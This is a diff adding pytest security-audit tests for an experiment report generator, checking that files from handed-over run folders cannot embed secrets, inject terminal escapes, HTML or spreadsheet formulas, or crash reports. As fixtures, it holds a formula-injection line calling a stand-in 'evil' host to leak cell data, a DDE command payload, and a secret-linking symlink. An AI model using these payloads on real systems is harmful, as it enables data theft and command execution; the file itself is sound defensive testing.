@@ -1,0 +1,99 @@
+"""Run folders handed over from elsewhere are data for the reports (security audit): a figure linked to a secret
+is not embedded, text from ``failed.json`` / overrides / method names cannot drive the terminal, inject HTML or
+a spreadsheet formula, and a crafted file does not stop a report."""
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+
+import pytest
+from omegaconf import OmegaConf
+
+from engine.predict import Models
+from engine.run_files import csv_text, md_text, plain_text, run_figure
+from experiments import kd_report, report
+from lightning_modules.errors import CheckpointError
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
+NASTY = "boom [/bold] \x1b]0;PWNED\x07\x1b[2J <script>alert(1)</script> a|b\nsecond line"
+
+
+def _run(root: Path, name: str, metrics: dict | None = None, overrides: list | None = None) -> Path:
+    run = root / name
+    (run / ".hydra").mkdir(parents=True)
+    if metrics is not None:
+        (run / "metrics.json").write_text(json.dumps(metrics))
+    (run / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides or []))
+    return run
+
+
+def test_a_figure_linked_out_of_its_run_or_not_a_png_is_not_embedded(tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("MY_API_TOKEN=sk-live-abc123")
+    run = _run(tmp_path / "runs", "a", {"test/dice": 0.5})
+    (run / "test_roc.png").symlink_to(secret)  # found by the audit: /proc/self/environ was embedded this way
+    (run / "test_overlays.png").write_text("not a png")
+    (run / "learning_curves.png").write_bytes(PNG)
+    assert report.main([str(tmp_path / "runs"), "--out", str(tmp_path / "out")]) == 0
+    page = (tmp_path / "out" / "report.html").read_text()
+    assert base64.b64encode(secret.read_bytes()).decode()[:20] not in page
+    assert base64.b64encode(b"not a png").decode() not in page
+    assert base64.b64encode(PNG).decode() in page
+    assert run_figure(run, "test_roc.png") is None and run_figure(run, "learning_curves.png") == run / "learning_curves.png"
+
+
+def test_text_from_run_files_is_plain_in_terminal_markdown_html_and_csv(tmp_path, capsys):
+    runs = tmp_path / "runs"
+    _run(runs, "a", {"test/dice": 0.5}, ['=HYPERLINK("http://evil/?"&A1,"x")', "model=a"])
+    _run(runs, "b", {"test/dice": 0.6}, ["model=b"])
+    failed = _run(runs, "c", None, ["model=c"])
+    (failed / "failed.json").write_text(json.dumps({"error": NASTY}))
+    assert report.main([str(runs)]) == 0  # "[/bold]" was rich's MarkupError
+    printed = capsys.readouterr().out
+    assert "\x1b" not in printed and "\x07" not in printed
+    md = (runs / "report.md").read_text()
+    assert "<script>" not in md and "&lt;script&gt;" in md and "\x1b" not in md and "second line" in md
+    assert "<script>" not in (runs / "report.html").read_text()
+    rows = (runs / "report.csv").read_text().splitlines()
+    assert any(r.startswith("\"'=HYPERLINK") or r.startswith("'=HYPERLINK") for r in rows), rows
+
+
+def test_crafted_metrics_and_logs_do_not_stop_a_report(tmp_path):
+    runs = tmp_path / "runs"
+    a = _run(runs, "a", {"test/dice": 0.5, "evaluation_matrix": [1, 2]})
+    (a / "csv").mkdir()
+    (a / "csv" / "metrics.csv").write_text("epoch,step,val/dice\n0,1,abc\nx,2,0.5\n1,3,0.6\n")
+    _run(runs, "b", {"test/dice": 0.6, "evaluation_matrix": {"FL_global": [1]}})
+    (runs / "b" / ".hydra" / "overrides.yaml").write_text(": not: yaml: [")
+    assert report.main([str(runs)]) == 0
+
+
+def test_kd_report_reads_crafted_files_as_data(tmp_path):
+    run = tmp_path / "r1"
+    run.mkdir()
+    (run / "metrics.json").write_text(json.dumps({"distill/method": '=cmd|" /C calc"!A0', "test/dice": "abc"}))
+    (run / "config.yaml").write_text("seed: [1]\ndistill: 5\n")
+    bad = tmp_path / "r2"
+    bad.mkdir()
+    (bad / "failed.json").write_text("[1]")  # a bare json.loads then .get: AttributeError
+    out = kd_report.report(tmp_path)
+    assert "'=cmd" in (tmp_path / "kd_table1.csv").read_text()
+    assert out["failed"][0]["error"] == "failed.json does not parse"
+
+
+def test_the_text_helpers():
+    assert plain_text("a\x1b[2Jb\nc\u009bd") == "a[2Jb cd"
+    assert md_text("<b>|x") == "&lt;b&gt;\\|x" and md_text("a|b", cell=False) == "a|b"
+    assert csv_text("-2+3") == "'-2+3" and csv_text("hlfd") == "hlfd"
+
+
+def test_predict_never_computes_ct_statistics_from_a_run_configs_data_folder(tmp_path):
+    """Audit: a handed-over config with ``normalization: ct`` and a checkpoint without statistics made predict
+    read the config's data folder and write its cache wherever the config said."""
+    cfg = OmegaConf.create({"data": {"_target_": "x", "normalization": "ct", "cache_dir": str(tmp_path / "out")}})
+    models = Models(nets=[], run_cfg=cfg, hparams={}, paths=[tmp_path / "best.ckpt"])
+    with pytest.raises(CheckpointError, match=r"best\.ckpt holds no CT statistics .* data\.ct_stats="):
+        models.data_overrides()
+    assert Models(nets=[], run_cfg=cfg, hparams={}, data_state={"ct_stats": [0, 1, 0.5, 0.1]}).data_overrides() == \
+        {"ct_stats": [0, 1, 0.5, 0.1]}
